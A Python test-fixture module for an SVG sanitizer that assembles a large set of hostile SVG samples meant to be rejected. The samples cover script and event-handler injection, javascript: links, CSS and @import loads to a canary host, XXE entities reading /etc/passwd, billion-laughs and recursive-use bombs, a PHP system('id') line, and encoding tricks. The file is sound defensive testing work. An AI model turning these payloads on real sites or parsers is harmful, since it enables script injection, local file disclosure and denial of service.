"""SVGs that run or load something, or would grow without end: none of them may pass.

Some are from public collections (the HTML5 Security Cheatsheet, PayloadsAllTheThings, the tests of svg-sanitizer and
DOMPurify), put into the form that matters here.
"""

from base64 import b64encode

ALERT = "window.ran = 1; alert(1)"
CANARY = "https://canary.example"
HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:h="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events" width="90" height="90"'
)


def svg(content: str, attributes: str = "") -> str:
    return f"{HEAD} {attributes}>{content}</svg>"


def data_uri(content: str) -> str:
    return f"data:image/svg+xml;base64,{b64encode(content.encode()).decode()}"


def image(address: str) -> str:
    return svg(f'<image href="{address}" width="9" height="9"/>')


EMPTY = svg("")
PART = svg('<g id="x"/>')
SCRIPT = svg(f"<script>{ALERT}</script>")

RUN = {
    "a script": svg(f"<script>{ALERT}</script>"),
    "a script in CDATA": svg(f"<script><![CDATA[{ALERT}]]></script>"),
    "a script with a type": svg(f'<script type="application/ecmascript">{ALERT}</script>'),
    "a script as a module": svg(f'<script type="module">{ALERT}</script>'),
    "a script from outside": svg(f'<script href="{CANARY}/x.js"/>'),
    "a script from outside by XLink": svg(f'<script xlink:href="{CANARY}/x.js"/>'),
    "a script from data": svg('<script href="data:text/javascript,alert(1)"/>'),
    "an empty script": svg("<script/>"),
    "a script under a prefix": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{ALERT}</s:script></s:svg>',
    "a script under a prefix of its own": svg(
        f'<s:script xmlns:s="http://www.w3.org/2000/svg">{ALERT}</s:script>',
    ),
    "a script whose namespace is spelt in references": svg(
        f'<s:script xmlns:s="http://www.w3.org/2000/s&#118;g">{ALERT}</s:script>'
    ),
    "a script in the namespace that an entity names": '<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]>'
    f'<svg xmlns="&ns;"><script>{ALERT}</script></svg>',
    "a script in another element's default namespace": svg(
        f'<x xmlns="urn:x"><script xmlns="http://www.w3.org/2000/svg">{ALERT}</script></x>'
    ),
    "a script in metadata": svg(f"<metadata><script>{ALERT}</script></metadata>"),
    "a script in defs": svg(f"<defs><g><script>{ALERT}</script></g></defs>"),
    "a script in a title": svg(f"<title><script>{ALERT}</script></title>"),
    "a script in a switch": svg(f"<switch><g/><script>{ALERT}</script></switch>"),
    "a script in an unknown element": svg(f'<i:x xmlns:i="urn:x"><script>{ALERT}</script></i:x>'),
    "a script in a style": svg(f"<style><script>{ALERT}</script></style>"),
    "a script after much text": svg(" " * 100_000 + f"<script>{ALERT}</script>"),
    "a script of HTML": svg(f"<h:script>{ALERT}</h:script>"),
    "a script of HTML in metadata": svg(f"<metadata><h:script>{ALERT}</h:script></metadata>"),
    "a script of HTML by a default namespace": svg(f'<script xmlns="http://www.w3.org/1999/xhtml">{ALERT}</script>'),
    "a handler of SVG Tiny": svg(f'<handler type="text/ecmascript" ev:event="load">{ALERT}</handler>'),
    "a listener of XML Events": svg(f'<script id="h">{ALERT}</script><ev:listener event="load" handler="#h"/>'),
    "an attribute of XML Events": svg('<g ev:event="load" ev:handler="#h"/>'),
    "onload": svg("", f'onload="{ALERT}"'),
    "onload in capitals": svg("", f'ONLOAD="{ALERT}"'),
    "onload in references": svg("", 'onload="&#97;lert(1)"'),
    "onload on a line of its own": svg("", f'\nonload\n=\n"{ALERT}"'),
    "onbegin": svg(f'<animate onbegin="{ALERT}" attributeName="x" dur="1s"/>'),
    "onend": svg(f'<set attributeName="x" to="1" dur="0.01s" onend="{ALERT}"/>'),
    "onclick": svg(f'<rect width="90" height="90" onclick="{ALERT}"/>'),
    "onfocus": svg(f'<a href="#x" autofocus="autofocus" tabindex="0" onfocus="{ALERT}"><text y="20">x</text></a>'),
    "onerror of an image": svg(f'<image href="data:image/png;base64,x" onerror="{ALERT}"/>'),
    "a handler that no browser knows yet": svg('<g onwonder="alert(1)"/>'),
    "a link with a script": svg('<a href="javascript:alert(1)"><text y="20">x</text></a>'),
    "a link with a script by XLink": svg('<a xlink:href="javascript:alert(1)"><text y="20">x</text></a>'),
    "a link with a script under another prefix": svg(
        '<a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:alert(1)"><text y="20">x</text></a>'
    ),
    "a link with capitals": svg('<a href="JavaScript:alert(1)"/>'),
    "a link with references": svg('<a href="javascript&#58;alert(1)"/>'),
    "a link with a tab": svg('<a href="java&#9;script:alert(1)"/>'),
    "a link with line ends": svg('<a href="&#10;java&#10;script&#13;:alert(1)"/>'),
    "a link with many line ends": svg('<a href="j' + "&#10;" * 500 + 'avascript:alert(1)"/>'),
    "a link behind blanks": svg('<a href="' + " " * 500 + 'javascript:alert(1)"/>'),
    "a link to a page in itself": svg('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    "a link in VBScript": svg('<a href="vbscript:msgbox(1)"/>'),
    "a link to a file": svg('<a href="file:///etc/passwd"/>'),
    "a link of a foreign element": svg('<x xmlns="urn:x" xlink:type="simple" xlink:href="javascript:alert(1)"/>'),
    "a link that becomes a script": svg(
        '<a href="#x"><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a>'
    ),
    "a link that becomes a script by XLink": svg(
        '<a xlink:href="#x"><set attributeName="xlink:href" to="javascript:alert(1)"/><text y="20">x</text></a>'
    ),
    "a link that becomes a script under a prefix": svg(
        '<a><set xmlns:l="http://www.w3.org/1999/xlink" attributeName="l:href" to="javascript:alert(1)"/></a>'
    ),
    "an animation of a handler": svg('<g><set attributeName="onmouseover" to="alert(1)"/></g>'),
    "an animation of a name with blanks": svg('<a><set attributeName=" href " to="javascript:alert(1)"/></a>'),
    "an animation of an unknown attribute": svg('<a><set attributeName="src" to="javascript:alert(1)"/></a>'),
    "a use of a page in itself": svg(f'<use href="{data_uri(PART)}#x"/>'),
    "an image with a script": svg('<image href="javascript:alert(1)" width="9" height="9"/>'),
    "a drawing in it with a script": image(data_uri(SCRIPT)),
    "a drawing in it, not encoded": svg(
        "<image href=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/%3E\"/>"
    ),
    "drawings in drawings": image(data_uri(image(data_uri(SCRIPT)))),
    "HTML": svg('<foreignObject width="90" height="90"><h:b>x</h:b></foreignObject>'),
    "HTML with a handler": svg(
        f'<foreignObject width="90" height="90"><h:img src="x:" onerror="{ALERT}"/></foreignObject>'
    ),
    "HTML with a frame": svg(f'<foreignObject width="90" height="90"><h:iframe src="{CANARY}/frame"/></foreignObject>'),
    "HTML with a frame of script": svg('<foreignObject><h:iframe src="javascript:alert(1)"/></foreignObject>'),
    "HTML without the element around it": svg(f'<h:img src="x:" onerror="{ALERT}"/>'),
    "HTML in an unknown element": svg(f'<x xmlns="urn:x"><h:img src="x:" onerror="{ALERT}"/></x>'),
    "HTML in an element of Illustrator's": svg(
        '<foreignObject requiredExtensions="http://ns.adobe.com/AdobeIllustrator/10.0/">'
        f'<h:img src="x:" onerror="{ALERT}"/></foreignObject>'
    ),
    "HTML that is embedded": svg(f'<h:embed src="{CANARY}/x.svg"/>'),
    "HTML that is an object": svg(f'<h:object data="{CANARY}/x.svg"/>'),
    "a form of HTML": svg(f'<h:form action="{CANARY}"><h:input type="submit"/></h:form>'),
    "a base of HTML": svg(f'<h:base href="{CANARY}/"/>'),
    "a refresh of HTML": svg(f'<h:meta http-equiv="refresh" content="0;url={CANARY}/"/>'),
    "elements of HTML without its namespace": svg('<iframe src="javascript:alert(1)"/>'),
    "MathML": svg(
        '<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mi href="javascript:alert(1)">x</m:mi></m:math>'
    ),
    "XBL": svg('<b:bindings xmlns:b="http://www.mozilla.org/xbl"><b:binding id="x"/></b:bindings>'),
    "XInclude": svg(f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{CANARY}/x"/>'),
    "a style sheet in XSLT": f'<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>{svg("")}',
    "an instruction for PHP": svg("<?php system('id') ?>"),
    "an unknown element": svg("<wonder/>"),
    "a film of SVG Tiny": svg(f'<video xlink:href="{CANARY}/x.mp4"/>'),
    "a sound of SVG Tiny": svg(f'<audio xlink:href="{CANARY}/x.mp3"/>'),
    "a fetch ahead of SVG Tiny": svg(f'<prefetch xlink:href="{CANARY}/x.mp3"/>'),
}

LOAD = {
    "an image": svg(f'<image href="{CANARY}/x.png" width="9" height="9"/>'),
    "an image by XLink": svg(f'<image xlink:href="{CANARY}/x.png" width="9" height="9"/>'),
    "an image with references": svg('<image href="https&#58;//canary.example/x.png" width="9" height="9"/>'),
    "an image without a scheme": svg('<image href="//canary.example/x.png" width="9" height="9"/>'),
    "an image beside it": svg('<image href="x.png" width="9" height="9"/>'),
    "an image behind blanks": image(" " * 300 + f"{CANARY}/x.png"),
    "an image of a page": svg('<image href="data:text/html,x" width="9" height="9"/>'),
    "an image of a file": svg('<image href="file:///etc/passwd" width="9" height="9"/>'),
    "an image by src": svg(f'<image src="{CANARY}/x.png"/>'),
    "an image in an entity": f'<!DOCTYPE svg [<!ENTITY at "{CANARY}">]>' + image("&at;/x.png"),
    "an image in a drawing in it": image(data_uri(image(f"{CANARY}/x.png"))),
    "an image of a filter": svg(
        f'<filter id="f"><feImage href="{CANARY}/x.png"/></filter><rect width="90" height="90" filter="url(#f)"/>'
    ),
    "a use": svg(f'<use href="{CANARY}/x.svg#x"/>'),
    "a use of a file beside it": svg('<use xlink:href="x.svg#x"/>'),
    "a gradient": svg(f'<linearGradient xlink:href="{CANARY}/x.svg#x"/>'),
    "a pattern": svg(f'<pattern href="{CANARY}/x.svg#x"/>'),
    "a text path": svg(f'<text><textPath href="{CANARY}/x.svg#x">x</textPath></text>'),
    "a text from elsewhere": svg(f'<text><tref xlink:href="{CANARY}/x.svg#x"/></text>'),
    "a cursor": svg(f'<cursor xlink:href="{CANARY}/x.png"/>'),
    "a font": svg(
        f'<font-face><font-face-src><font-face-uri xlink:href="{CANARY}/x.svg#x"/></font-face-src></font-face>'
    ),
    "a colour profile": svg(f'<color-profile xlink:href="{CANARY}/x.icc"/>'),
    "a base": svg('<use href="#x"/>', f'xml:base="{CANARY}/x.svg"'),
    "a ping": svg(f'<a href="#x" ping="{CANARY}/x"/>'),
    "a fill": svg(f'<rect width="90" height="90" fill="url({CANARY}/x.svg#x)"/>'),
    "a fill of a file beside it": svg('<rect width="90" height="90" fill="url(x.svg#x)"/>'),
    "a fill with an escape": svg('<rect width="90" height="90" fill="u\\72l(' + CANARY + '/x.svg#x)"/>'),
    "a mask": svg(f"""<rect width="90" height="90" mask="url('{CANARY}/x.svg#x')"/>"""),
    "a filter": svg(f'<rect width="90" height="90" filter="url({CANARY}/x.svg#x)"/>'),
    "a clip path": svg(f'<rect width="90" height="90" clip-path="url({CANARY}/x.svg#x)"/>'),
    "a marker": svg(f'<path d="M0 0h9" marker-end="url({CANARY}/x.svg#x)"/>'),
    "a fill that comes later": svg(
        f'<rect width="90" height="90"><animate attributeName="fill" values="url({CANARY}/x.svg#x)" dur="1s"/></rect>'
    ),
    "a mask that comes later": svg(
        f'<rect width="90" height="90"><set attributeName="mask" to="url({CANARY}/x.svg#x)"/></rect>'
    ),
    "a cursor in a style": svg(f'<rect width="90" height="90" style="cursor: url({CANARY}/x.png), auto"/>'),
    "a background in a style": svg("", f'style="background: url({CANARY}/x.png)"'),
    "a background in an escaped style": svg("", 'style="background: u\\72l(' + CANARY + '/x.png)"'),
    "a background in six digits": svg("", 'style="background: \\000075\\000072\\00006c(' + CANARY + '/x.png)"'),
    "a background in capitals": svg("", f'style="BACKGROUND: URL({CANARY}/x.png)"'),
    "a background in an image set": svg("", f"style=\"background: image-set('{CANARY}/x.png' 1x)\""),
    "a background in WebKit's image set": svg("", f'style="background: -webkit-image-set(url({CANARY}/x.png) 1x)"'),
    "a background in image()": svg("", f"style=\"background: image('{CANARY}/x.png')\""),
    "a background in a cross fade": svg("", f'style="background: -webkit-cross-fade(url({CANARY}/x.png), red)"'),
    "a background by a variable": svg("", f'style="--x: url({CANARY}/x.png); background: var(--x)"'),
    "a background in src()": svg("", f"style=\"background: src('{CANARY}/x.png')\""),
    "an address that does not end": svg("", f'style="background: url({CANARY}/x.png"'),
    "a binding": svg("", f'style="-moz-binding: url({CANARY}/x.xml#x)"'),
    "a binding of its own": svg("", 'style="-moz-binding: url(#x)"'),
    "a behaviour": svg("", 'style="behavior: url(#x)"'),
    "an expression": svg("", 'style="width: expression(alert(1))"'),
    "an escaped expression": svg("", 'style="width: expr\\65ssion(alert(1))"'),
    "a style sheet": svg(f"<style>svg {{ background: url({CANARY}/x.png) }}</style>"),
    "a style sheet in CDATA": svg(f"<style><![CDATA[svg {{ background: url({CANARY}/x.png) }}]]></style>"),
    "a style sheet in references": svg(f"<style>svg {{ background: &#117;rl({CANARY}/x.png) }}</style>"),
    "a style sheet with quotes": svg(f'<style>svg {{ background: url( "{CANARY}/x.png" ) }}</style>'),
    "a style sheet after a comment": svg(f"<style>/* a */ svg {{ background:/**/url({CANARY}/x.png) }}</style>"),
    "a style sheet after a broken string": svg(
        f"<style>a {{ content: 'x\n}} svg {{ background: url({CANARY}/x.png) }}</style>"
    ),
    "a style sheet in pieces": svg(f"<style>svg {{ background: u<!-- -->rl({CANARY}/x.png) }}</style>"),
    "a style sheet around an element": svg(f"<style>@im<g>x</g>port '{CANARY}/x.css';</style>"),
    "an import": svg(f"<style>@import '{CANARY}/x.css';</style>"),
    "an import by url()": svg(f"<style>@import url({CANARY}/x.css);</style>"),
    "an import with an escape": svg(f"<style>@\\69mport '{CANARY}/x.css';</style>"),
    "an import with a long escape": svg(f"<style>@\\000069\nmport '{CANARY}/x.css';</style>"),
    "an import in capitals": svg(f"<style>@IMPORT '{CANARY}/x.css';</style>"),
    "an import from beside it": svg("<style>@import 'x.css';</style>"),
    "an import in HTML's comment": svg(f"<style>&lt;!--@import '{CANARY}/x.css';--&gt;</style>"),
    "an import after a character set": svg(f"<style>@charset 'utf-8'; @import '{CANARY}/x.css';</style>"),
    "an import after a namespace": svg(f"<style>@namespace x; svg {{ background: url({CANARY}/x.png) }}</style>"),
    "a font of a style sheet": svg(
        f"<style>@font-face {{ font-family: x; src: url({CANARY}/x.woff2) }} text {{ font-family: x }}</style>"
        '<text y="20">x</text>'
    ),
    "a style for some pages": svg(f"<style>@document url({CANARY}/) {{ svg {{ fill: red }} }}</style>"),
    "a style sheet by an instruction": f'<?xml-stylesheet href="{CANARY}/x.css"?>{svg("")}',
    "a style sheet by an instruction within": svg(f'<?xml-stylesheet href="{CANARY}/x.css"?>'),
    "a style sheet of HTML": svg(f'<h:link rel="stylesheet" href="{CANARY}/x.css"/>'),
    "a style of HTML": svg(f"<h:style>svg {{ background: url({CANARY}/x.png) }}</h:style>"),
}

OTHER = {
    "an entity of a file": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{svg("<text>&x;</text>")}',
    "an entity of a page": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{CANARY}/x">]>{svg("<text>&x;</text>")}',
    "an entity that is markup": f'<!DOCTYPE svg [<!ENTITY x "<script>{ALERT}</script>">]>{svg("&x;")}',
    "an entity that becomes markup": f"<!DOCTYPE svg [<!ENTITY x '&#60;script>{ALERT}&#60;/script>'>]>" + svg("&x;"),
    "an entity of entities": '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + svg("<text>&b;</text>"),
    "a billion laughs": "<!DOCTYPE svg [<!ENTITY l0 'l'>"
    + "".join(f"<!ENTITY l{n + 1} '" + f"&l{n};" * 10 + "'>" for n in range(9))
    + "]>"
    + svg("<text>&l9;</text>"),
    "an entity that blows up": "<!DOCTYPE svg [<!ENTITY x '" + "x" * 50_000 + "'>]>" + svg("&x;" * 50_000),
    "an entity of parameters": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{CANARY}/x.dtd"> %x;]>{svg("")}',
    "an entity of parameters in itself": "<!DOCTYPE svg [<!ENTITY % x '<!ENTITY y \"z\">'> %x;]>" + EMPTY,
    "an entity that nobody declared": svg("<text>&nbsp;</text>"),
    "an entity that browsers know from XHTML": '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x">'
    + svg('<a href="javascript&colon;alert(1)"/>'),
    "an entity that SVG's DTD might hold": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + svg('<a href="javascript&colon;alert(1)"/>'),
    "an attribute by default": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{ALERT}">]>{svg("")}',
    "an element declared": "<!DOCTYPE svg [<!ELEMENT svg ANY>]>" + EMPTY,
    "a notation": f'<!DOCTYPE svg [<!NOTATION x SYSTEM "{CANARY}">]>{svg("")}',
    "a DTD from outside": f'<!DOCTYPE svg SYSTEM "{CANARY}/x.dtd">{svg("")}',
    "SVG's DTD from outside": f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{CANARY}/x.dtd">{svg("")}',
    "a use of itself": svg('<g id="a"><use href="#a"/></g>'),
    "uses of each other": svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    "a million uses": svg(
        '<rect id="a0"/>' + "".join(f'<g id="a{n + 1}">' + f'<use href="#a{n}"/>' * 10 + "</g>" for n in range(9))
    ),
    "a million uses of parts that hold parts": svg(
        '<g id="a0"><g><rect/></g></g>'
        + "".join(f'<g id="a{n + 1}"><g id="b{n}">' + f'<use xlink:href="#a{n}"/>' * 10 + "</g></g>" for n in range(9))
    ),
    "a depth without end": "<g>".join([svg("").removesuffix("</svg>"), *[""] * 3_000_000]),
    "a depth that ends": svg("<g>" * 3000 + "</g>" * 3000),
    "elements without end": svg("<g/>" * 400_000),
    "no SVG": "<html/>",
    "no namespace": '<svg width="9"><script>alert(1)</script></svg>',
    "the wrong namespace": '<svg xmlns="http://www.w3.org/2000/SVG"/>',
    "HTML around it": f'<html xmlns="http://www.w3.org/1999/xhtml">{svg("<g/>")}</html>',
    "no XML": "<svg xmlns=http://www.w3.org/2000/svg><script>alert(1)</script>",
    "two roots": svg("") + svg("<script/>"),
    "text after it": svg("") + "<script>alert(1)</script>",
    "a prefix that nobody declared": "<svg xmlns='http://www.w3.org/2000/svg'><x:script>alert(1)</x:script></svg>",
    "a namespace that is two": f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:s='http://www.w3.org/2000/svg&#10;g'>"
    f"<s:script>{ALERT}</s:script></svg>",
    "an end that is missing": svg(f"<script>{ALERT}</script>").removesuffix("</svg>"),
}

BYTES = {
    "UTF-16, big end first": b"\xfe\xff" + RUN["a script"].encode("utf-16-be"),
    "UTF-16, little end first": b"\xff\xfe" + RUN["onload"].encode("utf-16-le"),
    "UTF-16 without its mark": RUN["a script"].encode("utf-16-le"),
    "UTF-16 that says so": b"<?xml version='1.0' encoding='utf-16'?>" + RUN["a script"].encode(),
    "UTF-32": b"\xff\xfe\0\0" + RUN["a script"].encode("utf-32-le"),
    "UTF-7": b"<?xml version='1.0' encoding='utf-7'?>" + svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-").encode(),
    "an encoding with states": b"<?xml version='1.0' encoding='ISO-2022-JP'?>" + svg("").encode(),
    "EBCDIC": b"<?xml version='1.0' encoding='IBM037'?>" + svg("").encode(),
    "a byte-order mark before a script": b"\xef\xbb\xbf" + RUN["a script"].encode(),
    "Latin-1 before a script": "<?xml version='1.0' encoding='iso-8859-1'?>{}".format(
        svg(f"<text>é</text><script>{ALERT}</script>")
    ).encode("latin-1"),
    "overlong characters": svg("").encode().replace(b"></svg>", b">\xc0\xbcscript>alert(1)\xc0\xbc/script></svg>"),
    "bytes that are not UTF-8": svg("<text>\xe9</text>").encode("latin-1"),
    "NUL": svg("<scr\0ipt/>").encode(),
    "half a character": svg("").encode("utf-16")[:-1],
}

HOSTILE = {name: text.encode() for group in (RUN, LOAD, OTHER) for name, text in group.items()} | BYTES
